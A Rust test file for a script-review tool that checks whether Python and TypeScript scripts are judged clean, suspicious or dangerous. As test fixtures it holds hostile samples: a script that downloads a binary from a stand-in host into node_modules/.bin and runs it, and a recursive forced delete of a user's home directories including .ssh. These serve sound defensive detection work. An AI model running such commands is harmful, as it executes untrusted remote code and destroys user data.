//! Session 48's precision rows for Python, JavaScript and TypeScript scripts (issue 17).
//! A child started in a session of its own that the script waits for or stops is a process of
//! the run, not one meant to outlive it; a fixed command name in the project's dependency bin
//! directory is that dependency's command; a long argv keeps its elements through
//! `[str(a) for a in argv]`. Each clean row has its twins: a child never waited for, another
//! child waited for instead, a program of another name or directory, a download written there
//! and run, or a program from the command line stay flagged.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// `Popen(..., start_new_session=True)` for a child the script waits for or stops: its own
/// session only keeps Ctrl-C for the script. Never waited for, or another child waited for
/// (a name that only ends like it), it stays a process meant to outlive the run.
#[test]
fn a_child_in_its_own_session_that_the_script_waits_for() {
    let runner = |after: &str| {
        format!(
            "import subprocess\nimport sys\n\nhelper = subprocess.Popen([\"sleep\", \"1\"])\nproc = subprocess.Popen([\"cargo\", \"test\", \"--quiet\"], start_new_session=True)\nprint(\"started\", proc.pid)\n{after}\n"
        )
    };
    rows(&[
        (Py, runner("sys.exit(proc.wait())"), Clean, ""),
        (
            Py,
            runner(
                "try:\n    code = proc.wait(timeout=600)\nexcept subprocess.TimeoutExpired:\n    proc.kill()\n    code = proc.wait()\nsys.exit(code)",
            ),
            Clean,
            "",
        ),
        (Py, runner("out, _ = proc.communicate()"), Clean, ""),
        (
            Py,
            runner(
                "def stop(signum, frame):\n    proc.send_signal(signum)\n\nimport signal\nsignal.signal(signal.SIGINT, stop)",
            ),
            Clean,
            "",
        ),
        // Never waited for or stopped.
        (Py, runner("sys.exit(0)"), Suspicious, "escape"),
        // Another child waited for.
        (Py, runner("helper.wait()"), Suspicious, "escape"),
        // A name that only ends like the child's.
        (
            Py,
            runner("subproc = helper\nsubproc.wait()"),
            Suspicious,
            "escape",
        ),
    ]);
}

/// `path.join(ROOT, 'node_modules', '.bin', 'jest')` with the repository's top level known only
/// at run time: the project's installed dependency's command, what `npx jest` runs. A program
/// of a name nobody models in another directory of the project, or a download written into the
/// dependencies' directory and run from there, stays flagged.
#[test]
fn a_dependency_command_in_a_computed_project_directory() {
    let ts = |dir: &str| {
        format!(
            "import {{ execFileSync, spawnSync }} from 'node:child_process';\nimport * as fs from 'node:fs';\nimport * as path from 'node:path';\n\nconst ROOT = fs.realpathSync(execFileSync('git', ['rev-parse', '--show-toplevel'], {{ encoding: 'utf8' }}).trim());\nconst tool = path.join(ROOT, {dir}, 'jest');\nconst res = spawnSync(tool, ['--showConfig'], {{ cwd: ROOT, encoding: 'utf8' }});\nconsole.log(res.stdout);\n"
        )
    };
    let py = |dir: &str| {
        format!(
            "import os\nimport subprocess\nfrom pathlib import Path\n\nROOT = Path(os.environ[\"PROJECT_DIR\"])\nsubprocess.run([str(ROOT / {dir} / \"pytest\"), \"-q\"], check=True)\n"
        )
    };
    rows(&[
        (Ts, ts("'node_modules', '.bin'"), Clean, ""),
        (Py, py("\".venv\" / \"bin\""), Clean, ""),
        (Ts, ts("'tools'"), Suspicious, "remote-code"),
        (Ts, ts("'node_modules', 'jest'"), Suspicious, "remote-code"),
        (Py, py("\"scripts\""), Suspicious, "remote-code"),
    ]);
    let download = "import { execFileSync, spawnSync } from 'node:child_process';\nimport * as fs from 'node:fs';\nimport * as path from 'node:path';\n\nconst ROOT = fs.realpathSync(execFileSync('git', ['rev-parse', '--show-toplevel'], { encoding: 'utf8' }).trim());\nconst tool = path.join(ROOT, 'node_modules', '.bin', 'jest');\n\nasync function main(): Promise<void> {\n  const res = await fetch('https://tools.widgets.example.net/jest');\n  fs.writeFileSync(tool, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n  spawnSync(tool, ['--ci'], { stdio: 'inherit' });\n}\n\nmain();\n";
    let report = crate::verdict(Ts, download, Dangerous);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.severity == Dangerous && f.category.as_str() == "remote-code"),
        "{report:#?}"
    );
}

/// `subprocess.run([str(a) for a in argv])` in a helper, given an argv grown option by option
/// past the length loops are unrolled to: each element only turned into its text, so the
/// program is the list's first element. A first element from the command line stays a
/// command name built at run time, and a long list that deletes the user's directories is
/// seen as the delete it is.
#[test]
fn a_long_argv_keeps_its_elements_through_a_text_conversion() {
    let runner = |first: &str, targets: &str| {
        format!(
            "import subprocess\nimport sys\n\n\ndef run(argv, **kw):\n    print(\"$\", \" \".join(str(a) for a in argv))\n    return subprocess.run([str(a) for a in argv], check=True, **kw)\n\n\nargv = [{first}, \"--warmup\", \"2\", \"--runs\", \"10\", \"--shell=none\", \"--export-json\", \"build/bench.json\"]\nfor name in (\"small\", \"large\"):\n    argv += [\"--command-name\", name, {targets}]\nrun(argv)\n"
        )
    };
    rows(&[
        (Py, runner("\"hyperfine\"", "f\"build/cli compress tests/{name}.bin\""), Clean, ""),
        (Py, runner("sys.argv[1]", "f\"build/cli compress tests/{name}.bin\""), Suspicious, "remote-code"),
        // The same helper given a long delete of the user's own directories.
        (
            Py,
            "import subprocess\n\n\ndef run(argv):\n    return subprocess.run([str(a) for a in argv], check=True)\n\n\nargv = [\"rm\", \"-r\", \"-f\", \"--one-file-system\", \"--\", \"/home/dev/.config\", \"/home/dev/.local\", \"/home/dev/.cache\", \"/home/dev/.ssh\", \"/home/dev/Documents\"]\nrun(argv)\n".to_owned(),
            Dangerous,
            "destructive",
        ),
    ]);
}
